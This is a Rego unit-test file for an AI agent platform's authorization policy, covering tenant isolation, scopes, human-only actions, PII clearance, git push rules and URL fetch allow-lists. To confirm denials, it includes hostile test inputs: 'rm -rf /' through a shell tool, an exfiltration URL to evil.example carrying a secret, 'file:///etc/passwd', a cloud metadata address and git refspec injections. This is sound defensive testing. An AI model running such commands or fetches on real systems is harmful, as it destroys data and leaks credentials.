# Unit tests for authz.rego and tools.rego. tests/core/test_policy.py runs every test_* rule here through
# regopy and fails unless each one is true (`opa test` runs them as they are too).
#
# Every test asserts on data.authz.decision: either "allow" is true with no reasons, or a specific reason
# is present. A test never relies on "not allowed" alone, which an undefined (broken) decision would pass.
#
# rego-cpp (regopy 1.5.2) notes: `with input as {...}` (replacing the whole input) fails to compile once the
# policy calls built-ins, and a package-level rule used as a `with` value silently evaluates to undefined.
# So the helpers below replace each top-level input key separately, with function arguments as values.
package authz_test

import rego.v1

# -- helpers -------------------------------------------------------------------------------------------

user(tenant, scopes) := {"id": "user-1", "tenant": tenant, "kind": "user", "scopes": scopes}

bot(tenant, scopes) := {"id": "bot-1", "tenant": tenant, "kind": "bot", "scopes": scopes}

decide(principal, action, resource) := decide_as(principal, "internal", action, resource)

decide_as(principal, clearance, action, resource) := decision if {
	authority := {"clearance": clearance, "run_id": "run-1", "expired": false}
	decision := data.authz.decision with input.principal as principal
		with input.authority as authority
		with input.action as action
		with input.resource as resource
		with input.context as {}
}

tool(principal, name, args, context) := decision if {
	authority := {"clearance": "internal", "run_id": "run-1", "expired": false}
	resource := {"kind": "tool", "tenant": principal.tenant, "tool": name, "args": args}
	decision := data.authz.decision with input.principal as principal
		with input.authority as authority
		with input.action as "tool.call"
		with input.resource as resource
		with input.context as context
}

allowed(decision) if {
	decision.allow == true
	count(decision.reasons) == 0
}

denied_because(decision, reason) if {
	decision.allow == false
	reason in decision.reasons
}

# -- scopes and actions ------------------------------------------------------------------------------------

test_scope_held_allows if {
	allowed(decide(user("acme", ["rag:query"]), "rag.query", {"kind": "collection", "tenant": "acme"}))
}

test_every_mapped_action_allows_with_its_scope if {
	pairs := [
		["chat", "chat"], ["rag.query", "rag:query"], ["rag.ingest", "rag:ingest"],
		["cypher.read", "cypher:read"], ["repo.propose", "repo:propose"], ["pr.open", "repo:propose"],
		["router.override", "router:override"], ["eval.run", "eval:run"], ["eval.approve", "eval:approve"],
		["keys.admin", "keys:admin"], ["budget.admin", "budget:admin"], ["ledger.read", "ledger:read"],
		["runs.read", "runs:read"],
	]
	every pair in pairs {
		allowed(decide(user("acme", [pair[1]]), pair[0], {"tenant": "acme"}))
	}
}

test_missing_scope_denied if {
	d := decide(user("acme", ["chat"]), "rag.ingest", {"tenant": "acme"})
	denied_because(d, "missing scope 'rag:ingest' for action 'rag.ingest'")
}

# loading (or dropping) a tenant's graph is data ingestion: the rag:ingest scope, in the tenant's own graphs
test_graph_load_needs_ingest_scope_and_same_tenant if {
	allowed(decide(user("acme", ["rag:ingest"]), "graph.load", {"kind": "graph", "tenant": "acme", "id": "g"}))
	d := decide(user("acme", ["cypher:read"]), "graph.load", {"kind": "graph", "tenant": "acme", "id": "g"})
	denied_because(d, "missing scope 'rag:ingest' for action 'graph.load'")
	other := decide(user("acme", ["rag:ingest"]), "graph.load", {"kind": "graph", "tenant": "globex", "id": "g"})
	denied_because(other, "the resource belongs to another tenant")
}

test_unknown_action_denied_even_with_every_scope if {
	d := decide(user("acme", ["rag:query", "chat", "keys:admin"]), "rag.delete_everything", {"tenant": "acme"})
	denied_because(d, "unknown action: actions are denied unless data.json lists them")
}

test_missing_action_denied if {
	d := decide(user("acme", ["chat"]), "", {"tenant": "acme"})
	denied_because(d, "the request has no action")
}

# -- tenants ---------------------------------------------------------------------------------------------

test_cross_tenant_denied_without_naming_the_other_tenant if {
	d := decide(user("acme", ["rag:query"]), "rag.query", {"kind": "collection", "tenant": "globex"})
	denied_because(d, "the resource belongs to another tenant")
	every reason in d.reasons {
		not contains(reason, "globex")
	}
}

test_resource_without_tenant_denied if {
	d := decide(user("acme", ["rag:query"]), "rag.query", {"kind": "collection"})
	denied_because(d, "the resource has no tenant")
}

test_principal_without_tenant_denied if {
	p := {"id": "user-1", "kind": "user", "scopes": ["rag:query"]}
	d := decide(p, "rag.query", {"tenant": "acme"})
	denied_because(d, "the principal has no tenant")
}

test_unknown_principal_kind_denied if {
	p := {"id": "svc-1", "tenant": "acme", "kind": "service", "scopes": ["rag:query"]}
	d := decide(p, "rag.query", {"tenant": "acme"})
	denied_because(d, "the principal's kind must be 'user' or 'bot'")
}

# -- human-only actions ------------------------------------------------------------------------------------

test_bot_denied_human_only_actions_whatever_its_scopes if {
	d1 := decide(bot("acme", ["budget:admin"]), "budget.admin", {"tenant": "acme"})
	denied_because(d1, "'budget.admin' is a human-only action: bots may not perform it")
	d2 := decide(bot("acme", ["router:override"]), "router.override", {"tenant": "acme"})
	denied_because(d2, "'router.override' is a human-only action: bots may not perform it")
	d3 := decide(bot("acme", ["keys:admin"]), "keys.admin", {"tenant": "acme"})
	denied_because(d3, "'keys.admin' is a human-only action: bots may not perform it")
	d4 := decide(bot("acme", ["eval:approve"]), "eval.approve", {"tenant": "acme"})
	denied_because(d4, "'eval.approve' is a human-only action: bots may not perform it")
}

test_bot_may_not_decide_approvals if {
	resource := {"kind": "approval", "tenant": "acme", "workcell": "codegen", "requested_by": "user-9"}
	d := decide(bot("acme", ["approve:codegen"]), "approval.decide", resource)
	denied_because(d, "'approval.decide' is a human-only action: bots may not perform it")
}

# -- approvals -------------------------------------------------------------------------------------------

test_human_with_workcell_scope_decides if {
	resource := {"kind": "approval", "tenant": "acme", "workcell": "codegen", "requested_by": "user-9"}
	allowed(decide(user("acme", ["approve:codegen"]), "approval.decide", resource))
}

test_approve_scope_of_another_workcell_denied if {
	resource := {"kind": "approval", "tenant": "acme", "workcell": "codegen", "requested_by": "user-9"}
	d := decide(user("acme", ["approve:docs"]), "approval.decide", resource)
	denied_because(d, "missing scope 'approve:codegen' for action 'approval.decide'")
}

test_requester_may_not_decide_own_request if {
	resource := {"kind": "approval", "tenant": "acme", "workcell": "codegen", "requested_by": "user-1"}
	d := decide(user("acme", ["approve:codegen"]), "approval.decide", resource)
	denied_because(d, "the requester may not decide their own approval request")
}

test_approval_decide_needs_workcell if {
	resource := {"kind": "approval", "tenant": "acme", "requested_by": "user-9"}
	d := decide(user("acme", ["approve:codegen"]), "approval.decide", resource)
	denied_because(d, "'approval.decide' needs resource.workcell naming a workcell listed in data.json")
}

test_approver_of_another_tenant_denied if {
	resource := {"kind": "approval", "tenant": "globex", "workcell": "codegen", "requested_by": "user-9"}
	d := decide(user("acme", ["approve:codegen"]), "approval.decide", resource)
	denied_because(d, "the resource belongs to another tenant")
}

test_anyone_in_the_tenant_may_request_an_approval if {
	allowed(decide(bot("acme", []), "approval.request", {"kind": "approval", "tenant": "acme", "workcell": "codegen"}))
}

# -- authority -------------------------------------------------------------------------------------------

test_expired_authority_denied if {
	principal := user("acme", ["chat"])
	authority := {"clearance": "internal", "run_id": "run-1", "expired": true}
	d := data.authz.decision with input.principal as principal
		with input.authority as authority
		with input.action as "chat"
		with input.resource as {"tenant": "acme"}
	denied_because(d, "the run's authority has expired: start a new run")
}

test_invalid_clearance_denied if {
	d := decide_as(user("acme", ["chat"]), "top-secret", "chat", {"tenant": "acme"})
	denied_because(d, "the authority has no valid clearance (public, internal or pii)")
}

# -- data class and model clearance ----------------------------------------------------------------------

test_pii_to_uncleared_model_denied if {
	resource := {"kind": "model", "tenant": "acme", "data_class": "pii", "model_pii_allowed": false}
	d := decide_as(user("acme", []), "pii", "model.call", resource)
	denied_because(d, "PII may only be sent to a model cleared for it (model_pii_allowed is not true)")
}

test_pii_to_cleared_model_allowed if {
	resource := {"kind": "model", "tenant": "acme", "data_class": "pii", "model_pii_allowed": true}
	allowed(decide_as(user("acme", []), "pii", "model.call", resource))
}

test_pii_needs_pii_clearance_even_for_a_cleared_model if {
	resource := {"kind": "model", "tenant": "acme", "data_class": "pii", "model_pii_allowed": true}
	d := decide_as(user("acme", []), "internal", "model.call", resource)
	denied_because(d, "clearance 'internal' is below the data class 'pii'")
}

test_internal_data_needs_internal_clearance if {
	resource := {"kind": "model", "tenant": "acme", "data_class": "internal", "model_pii_allowed": false}
	d := decide_as(user("acme", []), "public", "model.call", resource)
	denied_because(d, "clearance 'public' is below the data class 'internal'")
	allowed(decide_as(user("acme", []), "internal", "model.call", resource))
}

test_public_data_to_any_model_allowed if {
	resource := {"kind": "model", "tenant": "acme", "data_class": "public", "model_pii_allowed": false}
	allowed(decide_as(user("acme", []), "public", "model.call", resource))
}

test_model_call_without_data_class_denied if {
	d := decide(user("acme", []), "model.call", {"kind": "model", "tenant": "acme", "model_pii_allowed": true})
	denied_because(d, "model.call needs resource.data_class (public, internal or pii)")
}

test_unknown_data_class_denied if {
	resource := {"kind": "model", "tenant": "acme", "data_class": "secret", "model_pii_allowed": true}
	d := decide_as(user("acme", []), "pii", "model.call", resource)
	denied_because(d, "the resource's data_class is not known: use public, internal or pii")
}

test_clearance_applies_to_any_resource_with_a_data_class if {
	d := decide(user("acme", ["rag:query"]), "rag.query", {"tenant": "acme", "data_class": "pii"})
	denied_because(d, "clearance 'internal' is below the data class 'pii'")
}

# -- tools: git.push / pr.open --------------------------------------------------------------------------------

repos := {"repos_allowed": ["acme/app"]}

test_bot_pushes_maestro_branch_to_allowed_repo if {
	allowed(tool(bot("acme", ["repo:propose"]), "git.push", {"repo": "acme/app", "branch": "maestro/fix-1"}, repos))
}

test_repo_allow_list_is_case_insensitive if {
	allowed(tool(bot("acme", ["repo:propose"]), "pr.open", {"repo": "ACME/App", "branch": "maestro/fix-1"}, repos))
}

test_repo_outside_allow_list_denied if {
	d := tool(bot("acme", ["repo:propose"]), "git.push", {"repo": "evil/app", "branch": "maestro/x"}, repos)
	denied_because(d, "the repository is not in the tenant's allow-list (repos_allowed)")
}

test_empty_allow_list_denies_every_repo if {
	d := tool(user("acme", ["repo:propose"]), "pr.open", {"repo": "acme/app", "branch": "feature"}, {})
	denied_because(d, "the repository is not in the tenant's allow-list (repos_allowed)")
}

test_static_data_allow_list_is_used if {
	p := bot("acme", ["repo:propose"])
	d := tool(p, "git.push", {"repo": "acme/app", "branch": "maestro/x"}, {}) with data.repos_allowed as {"acme": ["acme/app"]}
	allowed(d)
	d2 := tool(p, "git.push", {"repo": "acme/app", "branch": "maestro/x"}, {}) with data.repos_allowed as {"globex": ["acme/app"]}
	denied_because(d2, "the repository is not in the tenant's allow-list (repos_allowed)")
}

test_bot_never_pushes_default_branch if {
	every branch in ["main", "master"] {
		d := tool(bot("acme", ["repo:propose"]), "git.push", {"repo": "acme/app", "branch": branch}, repos)
		denied_because(d, "pushing to the default branch is not allowed: push a branch and open a pull request")
	}
}

test_configured_default_branch_protected if {
	context := {"repos_allowed": ["acme/app"], "default_branch": "maestro/trunk"}
	d := tool(bot("acme", ["repo:propose"]), "git.push", {"repo": "acme/app", "branch": "maestro/trunk"}, context)
	denied_because(d, "pushing to the default branch is not allowed: push a branch and open a pull request")
}

test_bot_branch_outside_maestro_prefix_denied if {
	d := tool(bot("acme", ["repo:propose"]), "git.push", {"repo": "acme/app", "branch": "feature/x"}, repos)
	denied_because(d, "bots may only push branches under 'maestro/'")
}

test_human_may_push_a_feature_branch if {
	allowed(tool(user("acme", ["repo:propose"]), "git.push", {"repo": "acme/app", "branch": "feature/x"}, repos))
}

test_refspecs_and_ref_paths_denied if {
	every branch in ["HEAD:main", "refs/heads/main", "maestro/../main", "-f", "maestro/a b"] {
		d := tool(user("acme", ["repo:propose"]), "git.push", {"repo": "acme/app", "branch": branch}, repos)
		denied_because(d, "the branch is not a plain branch name (letters, digits, . _ / -)")
	}
}

test_push_needs_repo_propose_scope if {
	d := tool(bot("acme", ["rag:query"]), "git.push", {"repo": "acme/app", "branch": "maestro/x"}, repos)
	denied_because(d, "missing scope 'repo:propose' for tool 'git.push'")
}

test_push_needs_repo_and_branch if {
	d := tool(bot("acme", ["repo:propose"]), "git.push", {"repo": "acme/app"}, repos)
	denied_because(d, "git.push and pr.open need string args 'repo' and 'branch'")
}

# -- tools: pr.merge, graph.query, unknown tools --------------------------------------------------------------

test_bot_never_merges if {
	d := tool(bot("acme", ["repo:propose", "repo:merge"]), "pr.merge", {"repo": "acme/app", "number": 7}, repos)
	denied_because(d, "'pr.merge' is a human-only tool: bots may not call it (bots only open pull requests)")
}

test_human_merges_with_repo_merge_only if {
	allowed(tool(user("acme", ["repo:merge"]), "pr.merge", {"repo": "acme/app", "pr": "pr_1"}, {}))
	d := tool(user("acme", ["repo:propose"]), "pr.merge", {"repo": "acme/app", "pr": "pr_1"}, {})
	denied_because(d, "missing scope 'repo:merge' for tool 'pr.merge'")
}

test_routing_weights_prs_need_eval_approve if {
	weights := {"repo": "acme/config", "pr": "pr_1", "labels": ["routing-weights", "eval"]}
	allowed(tool(user("acme", ["repo:merge", "eval:approve"]), "pr.merge", weights, {}))
	allowed(tool(user("acme", ["eval:approve"]), "pr.review", weights, {}))
	d := tool(user("acme", ["repo:merge"]), "pr.merge", weights, {})
	denied_because(d, "approving or merging a routing-weights pull request needs the 'eval:approve' scope")
	d2 := tool(user("acme", []), "pr.review", weights, {})
	denied_because(d2, "approving or merging a routing-weights pull request needs the 'eval:approve' scope")
	allowed(tool(user("acme", ["repo:merge"]), "pr.merge", {"repo": "acme/app", "pr": "pr_2", "labels": ["codegen"]}, {}))
}

test_only_humans_review_and_close_pull_requests if {
	allowed(tool(user("acme", []), "pr.review", {"repo": "acme/app", "pr": "pr_1"}, {}))
	d := tool(bot("acme", ["repo:propose"]), "pr.review", {"repo": "acme/app", "pr": "pr_1"}, {})
	denied_because(d, "'pr.review' is a human-only tool: bots may not call it (bots only open pull requests)")
	allowed(tool(user("acme", ["repo:propose"]), "pr.close", {"repo": "acme/app", "pr": "pr_1"}, {}))
	d2 := tool(bot("acme", ["repo:propose"]), "pr.close", {"repo": "acme/app", "pr": "pr_1"}, {})
	denied_because(d2, "'pr.close' is a human-only tool: bots may not call it (bots only open pull requests)")
}

test_graph_query_needs_cypher_read if {
	d := tool(user("acme", ["rag:query"]), "graph.query", {"graph": "g"}, {})
	denied_because(d, "missing scope 'cypher:read' for tool 'graph.query'")
	allowed(tool(user("acme", ["cypher:read"]), "graph.query", {"graph": "g"}, {}))
}

test_unknown_tool_denied if {
	d := tool(user("acme", ["repo:propose", "cypher:read"]), "shell.exec", {"cmd": "rm -rf /"}, {})
	denied_because(d, "unknown tool: tools are denied unless data.json lists them")
}

test_tool_call_without_tool_denied if {
	principal := user("acme", [])
	authority := {"clearance": "internal", "run_id": "run-1", "expired": false}
	d := data.authz.decision with input.principal as principal
		with input.authority as authority
		with input.action as "tool.call"
		with input.resource as {"kind": "tool", "tenant": "acme"}
	denied_because(d, "tool.call needs resource.tool")
}

# -- tools: http.fetch / url.fetch (prompt-injected "fetch this URL", RELIABILITY.md #6) ----------------------

test_fetch_denied_by_default if {
	every name in ["http.fetch", "url.fetch"] {
		d := tool(bot("acme", []), name, {"url": "https://evil.example/?d=SECRET"}, {})
		denied_because(d, "the URL's host is not in the tenant's fetch allow-list (hosts_allowed)")
		every reason in d.reasons {
			not contains(reason, "SECRET")
		}
	}
}

test_fetch_allow_listed_host_allowed if {
	context := {"hosts_allowed": ["Docs.Python.org"]}
	allowed(tool(user("acme", []), "http.fetch", {"url": "https://docs.python.org/3/library/json.html"}, context))
	allowed(tool(user("acme", []), "url.fetch", {"url": "https://docs.python.org:443"}, context))
}

test_fetch_static_data_hosts if {
	args := {"url": "https://docs.python.org/3/"}
	d := tool(user("acme", []), "http.fetch", args, {}) with data.fetch_hosts_allowed as {"acme": ["docs.python.org"]}
	allowed(d)
}

test_fetch_tricks_denied if {
	context := {"hosts_allowed": ["docs.python.org"]}
	urls := [
		"http://docs.python.org/",
		"https://docs.python.org@evil.example/",
		"https://docs.python.org\\@evil.example/",
		"https://evil.example/docs.python.org",
		"file:///etc/passwd",
		"https://169.254.169.254/latest/meta-data/",
	]
	every url in urls {
		d := tool(user("acme", []), "http.fetch", {"url": url}, context)
		d.allow == false
		count(d.reasons) > 0
	}
}

test_fetch_needs_url if {
	d := tool(user("acme", []), "http.fetch", {}, {"hosts_allowed": ["docs.python.org"]})
	denied_because(d, "fetch needs a string arg 'url'")
}

test_non_https_fetch_reason if {
	d := tool(user("acme", []), "http.fetch", {"url": "http://docs.python.org/"}, {"hosts_allowed": ["docs.python.org"]})
	denied_because(d, "only plain https URLs may be fetched")
}
